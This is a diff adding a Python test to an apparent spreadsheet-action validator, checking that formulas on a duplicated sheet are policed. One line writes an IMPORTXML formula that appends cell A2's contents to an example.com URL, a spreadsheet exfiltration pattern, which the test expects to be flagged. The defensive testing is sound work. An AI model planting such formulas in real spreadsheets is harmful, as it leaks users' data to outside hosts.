@@ -136,6 +136,15 @@ def test_two_steps_that_write_different_values_to_a_cell_stop_the_plan(bench: Be
     assert bench.attempt(first).errors == bench.attempt(later).errors == ()
 
 
+def test_formulas_on_a_copied_sheet_are_judged_like_any(bench: Bench) -> None:
+    copied = {"action": "duplicate_sheet", "source": "Данные", "target": "Копия"}
+    bench.client.update_values(bench.id, "'Данные'!F1", [["=SUM(B2:B4)"]])
+    assert bench.attempt(copied).errors == ()
+    bench.client.update_values(bench.id, "'Данные'!F2", [['=IMPORTXML("https://example.com/?q="&A2,"//a")']])
+    (fact,) = bench.attempt(copied).errors
+    assert (fact.kind, "IMPORTXML" in fact.sentence, "Копия" in fact.address) == ("function_policy", True, True)
+
+
 TABLE = {"action": "write_table", "target": "'Данные'!E1", "values": [["Месяц", "План"], ["1", ""], ["2", "0"]]}
 
 
